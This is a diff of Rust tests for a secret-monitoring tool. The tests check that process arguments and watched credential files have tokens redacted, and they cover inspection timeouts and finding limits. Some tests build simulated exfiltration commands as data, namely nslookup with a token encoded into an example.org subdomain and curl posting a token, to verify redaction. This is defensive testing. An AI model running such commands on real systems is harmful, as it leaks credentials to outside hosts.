@@ -1,14 +1,15 @@
 //! Records in, observations out: what is found, what is shown, what the kernel side is told.
 
 use super::files::Files;
-use super::{Digest, DigestOptions, Digested, Kernel, Registry};
+use super::{Digest, DigestOptions, Digested, InspectionOptions, Registry, Verdict};
 use crate::decode::Record;
 use keytrail_abi as abi;
+use keytrail_host::clock::boot_ns;
 use keytrail_model::{Access, ExecSeen, Observation, Place, PlaceNews, Why};
 use keytrail_payload::{Matcher, Streams};
 use keytrail_secret::{Classifier, Fingerprinter};
 use ring::rand::{SecureRandom as _, SystemRandom};
-use std::path::Path;
+use std::time::{Duration, Instant};
 
 /// What the digest asked of the kernel side.
 #[derive(Default)]
@@ -17,24 +18,49 @@ struct Asked {
     unwatched: Vec<abi::FileId>,
 }
 
-impl Kernel for Asked {
-    fn set_process(&mut self, _tgid: u32, _state: abi::ProcState) {}
-    fn clear_process(&mut self, _tgid: u32, _exec_id: u64) {}
-    fn watch(&mut self, path: &Path, file: abi::FileId, _flags: u32) {
-        self.watched.push((path.display().to_string(), file));
-    }
-    fn unwatch(&mut self, file: abi::FileId) {
-        self.unwatched.push(file);
-    }
+fn digest(patterns: &[String]) -> Digest {
+    digest_with(patterns, InspectionOptions::default())
 }
 
-fn digest(patterns: &[String]) -> Digest {
+fn digest_with(patterns: &[String], inspection: InspectionOptions) -> Digest {
     Digest::new(DigestOptions {
         classifier: Classifier::builtin().into(),
         registry: Registry::new(Fingerprinter::new(&[7; 32]), Matcher::new(&[9; 32])),
         streams: Streams::new(),
         files: Files::new(patterns.to_vec()),
+        inspection,
     })
+    .unwrap()
+}
+
+/// Takes in answers until `done` says so.
+fn answers_until(digest: &mut Digest, out: &mut Digested, done: impl Fn(&Digest) -> bool) {
+    let end = Instant::now() + Duration::from_secs(20);
+    while !done(digest) {
+        assert!(Instant::now() < end, "no answer came");
+        while digest.answer(boot_ns(), out).is_some() {}
+        std::thread::sleep(Duration::from_millis(1));
+    }
+}
+
+/// Surveys what may have changed, and takes in what comes of it.
+fn watch(digest: &mut Digest, asked: &mut Asked, out: &mut Digested) {
+    while digest.files.is_dirty() || !digest.is_settled() {
+        digest.watch();
+        answers_until(digest, out, Digest::is_settled);
+    }
+    let name = |(path, id): (std::path::PathBuf, _)| (path.display().to_string(), id);
+    asked.watched.extend(out.watch.drain(..).map(name));
+    asked.unwatched.append(&mut out.unwatch);
+}
+
+/// Ingests a record once the file it is about was inspected, as the engine does.
+fn record(digest: &mut Digest, record: &Record<'_>, hook: &str, out: &mut Digested) {
+    let inspection = digest.inspection(record);
+    if let Some(inspection) = &inspection {
+        answers_until(digest, out, |_| inspection.verdict().is_some());
+    }
+    digest.record(record, hook, inspection.as_ref(), out);
 }
 
 /// Random letters and digits: nothing in these tests is a token that was ever issued.
@@ -116,24 +142,28 @@ const NOBODY: u32 = 99_999_999;
 
 fn run_exec(digest: &mut Digest, argv: &[u8], env: &[u8]) -> ExecSeen {
     let mut out = Digested::default();
-    digest.record(
+    record(
+        digest,
         &Record::Exec(exec(NOBODY, 1, argv.len(), env.len())),
         "h",
         &mut out,
     );
-    digest.record(
+    record(
+        digest,
         &Record::ExecChunk(chunk(NOBODY, 1, abi::AREA_ARGV, 0, argv, false), argv),
         "h",
         &mut out,
     );
     let (first, second) = env.split_at(env.len() / 2);
-    digest.record(
+    record(
+        digest,
         &Record::ExecChunk(chunk(NOBODY, 1, abi::AREA_ENV, 0, first, false), first),
         "h",
         &mut out,
     );
     let at = first.len();
-    digest.record(
+    record(
+        digest,
         &Record::ExecChunk(chunk(NOBODY, 1, abi::AREA_ENV, at, second, true), second),
         "h",
         &mut out,
@@ -248,12 +278,78 @@ fn a_secret_known_from_the_environment_is_redacted_in_any_form() {
 }
 
 #[test]
+fn pieces_of_a_secret_at_hand_are_redacted_in_any_notation() {
+    let token = github();
+    let (head, tail) = token.split_at(token.len() / 2);
+    let hex: String = token.bytes().map(|b| format!("{b:02x}")).collect();
+    let percent: String = token.bytes().map(|b| format!("%{b:02x}")).collect();
+    let env = format!("GITHUB_TOKEN={token}\0");
+    for shown in [
+        head.to_owned(),
+        tail.to_owned(),
+        token[7..20].to_owned(),
+        hex.clone(),
+        hex[10..50].to_uppercase(),
+        percent[..60].to_owned(),
+    ] {
+        for line in [
+            format!("nslookup\0{shown}.example.org\0-x\0"),
+            format!("curl\0--data=a:{shown}\0end\0"),
+        ] {
+            let seen = run_exec(&mut digest(&[]), line.as_bytes(), env.as_bytes());
+            let argv = seen.argv.join("|");
+            assert!(
+                !argv.contains(&shown) && argv.contains("[redacted"),
+                "{argv}"
+            );
+            assert!(argv.ends_with("|-x") || argv.ends_with("|end"), "{argv}");
+        }
+    }
+    // A name of any bytes.
+    let env = [b"MY_\xff_TOKEN=".as_slice(), token.as_bytes(), b"\0"].concat();
+    let line = format!("x\0{tail}\0");
+    let seen = run_exec(&mut digest(&[]), line.as_bytes(), &env);
+    assert_eq!(seen.argv, ["x", "[redacted]"]);
+    // What has nothing to do with it stays.
+    let env = format!("GITHUB_TOKEN={token}\0");
+    let line = "git\0clone\0https://github.com/o/r.git\0ghp_\0--token-file=/x\0";
+    let seen = run_exec(&mut digest(&[]), line.as_bytes(), env.as_bytes());
+    assert_eq!(seen.argv.join("\0") + "\0", line);
+}
+
+#[test]
+fn a_piece_of_a_secret_of_another_process_goes_when_it_holds_the_known_bytes() {
+    let mut digest = digest(&[]);
+    let token = github();
+    run_exec(
+        &mut digest,
+        b"x\0",
+        format!("GITHUB_TOKEN={token}\0").as_bytes(),
+    );
+    // All but its mark: the bytes by which it is known are in there.
+    let cut = &token[4..];
+    let hex: String = cut.bytes().map(|b| format!("{b:02x}")).collect();
+    for shown in [cut, &hex] {
+        let line = format!("nslookup\0{shown}.example.org\0");
+        let seen = run_exec(&mut digest, line.as_bytes(), b"A=b\0");
+        assert_eq!(seen.argv, ["nslookup", "[redacted].example.org"], "{shown}");
+        assert!(seen.found.is_empty(), "nobody holds a piece");
+    }
+}
+
+#[test]
 fn a_lost_chunk_is_a_truncation_and_not_a_silence() {
     let mut digest = digest(&[]);
     let mut out = Digested::default();
     let env = format!("GITHUB_TOKEN={}\0", github());
-    digest.record(&Record::Exec(exec(NOBODY, 9, 5, 9_000)), "h", &mut out);
-    digest.record(
+    record(
+        &mut digest,
+        &Record::Exec(exec(NOBODY, 9, 5, 9_000)),
+        "h",
+        &mut out,
+    );
+    record(
+        &mut digest,
         &Record::ExecChunk(
             chunk(NOBODY, 9, abi::AREA_ENV, 0, env.as_bytes(), false),
             env.as_bytes(),
@@ -275,9 +371,15 @@ fn a_lost_chunk_is_a_truncation_and_not_a_silence() {
 fn chunks_that_lie_about_their_place_do_no_harm() {
     let mut digest = digest(&[]);
     let mut out = Digested::default();
-    digest.record(&Record::Exec(exec(NOBODY, 3, 10, 10)), "h", &mut out);
+    record(
+        &mut digest,
+        &Record::Exec(exec(NOBODY, 3, 10, 10)),
+        "h",
+        &mut out,
+    );
     for offset in [0, 5, usize::MAX / 2, u32::MAX as usize] {
-        digest.record(
+        record(
+            &mut digest,
             &Record::ExecChunk(
                 chunk(NOBODY, 3, abi::AREA_ENV, offset, b"A=b", false),
                 b"A=b",
@@ -285,13 +387,15 @@ fn chunks_that_lie_about_their_place_do_no_harm() {
             "h",
             &mut out,
         );
-        digest.record(
+        record(
+            &mut digest,
             &Record::ExecChunk(chunk(NOBODY, 77, 9, offset, b"A=b", true), b"A=b"),
             "h",
             &mut out,
         );
     }
-    digest.record(
+    record(
+        &mut digest,
         &Record::ExecChunk(chunk(NOBODY, 3, abi::AREA_ENV, 0, b"", true), b""),
         "h",
         &mut out,
@@ -316,7 +420,7 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
     let mut asked = Asked::default();
     digest.files.add_own([]);
     let mut out = Digested::default();
-    digest.watch(1, &mut asked, &mut out);
+    watch(&mut digest, &mut asked, &mut out);
     assert_eq!(asked.watched.len(), 1, "{:?}", asked.watched);
     assert!(
         matches!(out.places.as_slice(), [PlaceNews::Looked(l)] if l.why == Why::Start && l.held.len() == 1),
@@ -328,7 +432,7 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
     write("two", &github());
     digest.files.read_events();
     assert!(digest.files.is_dirty());
-    digest.watch(2, &mut asked, &mut out);
+    watch(&mut digest, &mut asked, &mut out);
     assert_eq!(asked.watched.len(), 2);
     assert!(
         matches!(out.places.as_slice(), [PlaceNews::Looked(l)] if l.why == Why::Place && l.raw.ends_with(b"/two"))
@@ -356,7 +460,7 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
     let second = github();
     write("one", &second);
     out.observations.clear();
-    digest.record(&Record::File(access), "hook", &mut out);
+    record(&mut digest, &Record::File(access), "hook", &mut out);
     assert!(
         out.observations.is_empty(),
         "a version nobody knows was read"
@@ -364,7 +468,7 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
     assert_eq!(std::mem::take(&mut digest.unlocated), 1);
     (access.ctime_ns, access.size) = changed("one");
     out.observations.clear();
-    digest.record(&Record::File(access), "hook", &mut out);
+    record(&mut digest, &Record::File(access), "hook", &mut out);
     let Some(Observation::File(seen)) = out.observations.pop() else {
         panic!("no read came out")
     };
@@ -376,7 +480,7 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
     assert_eq!(seen.credentials[0].fingerprint, expected);
     // The read of the version before, told late: not of what is there now.
     access.ctime_ns = before;
-    digest.record(&Record::File(access), "hook", &mut out);
+    record(&mut digest, &Record::File(access), "hook", &mut out);
     let Some(Observation::File(seen)) = out.observations.pop() else {
         panic!("the read of the first version did not come out")
     };
@@ -385,13 +489,13 @@ fn files_are_learnt_watched_and_known_in_their_new_version() {
 
     // A file that is not watched says nothing.
     access.file.ino = 1;
-    digest.record(&Record::File(access), "hook", &mut out);
+    record(&mut digest, &Record::File(access), "hook", &mut out);
     assert!(out.observations.is_empty());
 
     // Gone is gone.
     std::fs::remove_file(aws.join("two")).unwrap();
     digest.files.mark_all();
-    digest.watch(3, &mut asked, &mut out);
+    watch(&mut digest, &mut asked, &mut out);
     assert_eq!(asked.unwatched.len(), 1);
     assert!(
         matches!(out.places.last(), Some(PlaceNews::Gone { raw, .. }) if raw.ends_with(b"/two"))
@@ -420,7 +524,12 @@ fn file_new(tgid: u32, exec_id: u64) -> abi::FileNew {
 fn a_child_is_settled_by_what_its_parent_is_followed_under() {
     let mut digest = digest(&[]);
     let mut out = Digested::default();
-    digest.record(&Record::FileNew(file_new(NOBODY, 41)), "h", &mut out);
+    record(
+        &mut digest,
+        &Record::FileNew(file_new(NOBODY, 41)),
+        "h",
+        &mut out,
+    );
     out.settle.clear();
     let fork = abi::Fork {
         header: header(abi::Kind::FORK, NOBODY),
@@ -428,7 +537,7 @@ fn a_child_is_settled_by_what_its_parent_is_followed_under() {
         child_tgid: NOBODY - 1,
         child_ns_tgid: 1,
     };
-    digest.record(&Record::Fork(fork), "h", &mut out);
+    record(&mut digest, &Record::Fork(fork), "h", &mut out);
     let settled: Vec<_> = out.settle.iter().map(|s| (s.pid.tgid, s.exec_id)).collect();
     assert_eq!(settled, [(NOBODY - 1, 41)]);
 }
@@ -458,8 +567,104 @@ fn what_cannot_be_looked_for_or_was_read_in_part_is_counted() {
     let mut large = format!("TOKEN={}\n", github()).into_bytes();
     large.resize((8 << 20) + 1, b'\n');
     std::fs::write(aws.join("large"), large).unwrap();
-    digest.watch(1, &mut asked, &mut out);
+    watch(&mut digest, &mut asked, &mut out);
     let told: Vec<_> = digest.dropped().take().collect();
     assert_eq!(told, [(Bound::Weak, 1), (Bound::Sampled, 1)]);
     assert!(digest.dropped().is_empty(), "told once");
+}
+
+/// A place for a file whose reads block: a FIFO is opened without waiting, so a process stopped by hand is no use; a
+/// deadline that has passed before a thread can answer is the same to the one who asks.
+#[test]
+fn a_record_does_not_wait_beyond_the_deadline() {
+    use keytrail_model::Bound;
+    let dir = tempfile::tempdir().unwrap();
+    let options = InspectionOptions {
+        timeout_ns: 0,
+        ..InspectionOptions::default()
+    };
+    let mut digest = digest_with(&[], options);
+    let mut out = Digested::default();
+    let (_file, new) = readable(dir.path(), &format!("token = {}\n", github()));
+    record(&mut digest, &Record::FileNew(new), "h", &mut out);
+    assert!(out.observations.is_empty() && out.clean.is_empty());
+    let told: Vec<_> = digest.dropped().take().collect();
+    assert_eq!(told, [(Bound::InspectionTime, 1)]);
+}
+
+/// Writes a file that this process has open, and the record of a read of it.
+fn readable(dir: &std::path::Path, text: &str) -> (std::fs::File, abi::FileNew) {
+    use std::os::unix::fs::MetadataExt as _;
+    let path = dir.join("settings.txt");
+    std::fs::write(&path, text).unwrap();
+    let file = std::fs::File::open(&path).unwrap();
+    let meta = file.metadata().unwrap();
+    let mut new = file_new(std::process::id(), 0);
+    new.file = abi::FileId {
+        ino: meta.ino(),
+        dev: keytrail_host::kernel_device(meta.dev()),
+        pad: 0,
+    };
+    new.size = meta.size();
+    new.ctime_ns = meta.ctime() as u64 * 1_000_000_000 + meta.ctime_nsec() as u64;
+    (file, new)
+}
+
+#[test]
+fn a_new_file_is_inspected_once_for_all_who_read_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut digest = digest(&[]);
+    let mut out = Digested::default();
+    let (_file, new) = readable(dir.path(), &format!("token = {}\n", github()));
+    let one = digest.inspection(&Record::FileNew(new)).unwrap();
+    let two = digest.inspection(&Record::FileNew(new)).unwrap();
+    assert_eq!(one.id, two.id);
+    answers_until(&mut digest, &mut out, |_| one.verdict().is_some());
+    assert_eq!(two.verdict(), Some(Verdict::Known));
+    assert!(digest.inspection(&Record::FileNew(new)).is_none());
+    digest.record(&Record::FileNew(new), "h", Some(&one), &mut out);
+    assert!(
+        matches!(&out.observations[..], [Observation::File(seen)] if seen.credentials.len() == 1)
+    );
+    assert_eq!(out.watch.len(), 1);
+}
+
+/// What the configuration excludes is neither inspected nor asked about again.
+#[test]
+fn an_excluded_file_is_left_alone() {
+    let dir = tempfile::tempdir().unwrap();
+    let options = InspectionOptions {
+        excluded: crate::Excluded::new(&[dir.path().display().to_string()]).unwrap(),
+        ..InspectionOptions::default()
+    };
+    let pattern = format!("{}/*", dir.path().display());
+    let mut digest = digest_with(&[pattern], options);
+    digest.files.add_own([]);
+    let (mut asked, mut out) = (Asked::default(), Digested::default());
+    let (_file, mut new) = readable(dir.path(), &format!("token = {}\n", github()));
+    // By its path: this test does not know its names within the file system.
+    watch(&mut digest, &mut asked, &mut out);
+    assert!(asked.watched.is_empty());
+    new.ctime_ns += 1;
+    record(&mut digest, &Record::FileNew(new), "h", &mut out);
+    assert!(out.observations.is_empty() && digest.files.table.is_empty());
+}
+
+/// The owner of a file pays for it: nobody else is kept waiting by it.
+#[test]
+fn a_file_has_a_bound_of_findings() {
+    use keytrail_model::Bound;
+    let dir = tempfile::tempdir().unwrap();
+    let mut digest = digest(&[]);
+    let mut out = Digested::default();
+    let text: String = (0..1_100)
+        .map(|n| format!("token_{n} = {}\n", github()))
+        .collect();
+    let (_file, new) = readable(dir.path(), &text);
+    record(&mut digest, &Record::FileNew(new), "h", &mut out);
+    let [Observation::File(seen)] = &out.observations[..] else {
+        panic!("no read came out")
+    };
+    assert_eq!(seen.credentials.len(), 1_024);
+    assert!(digest.dropped().take().any(|d| d == (Bound::InFile, 76)));
 }
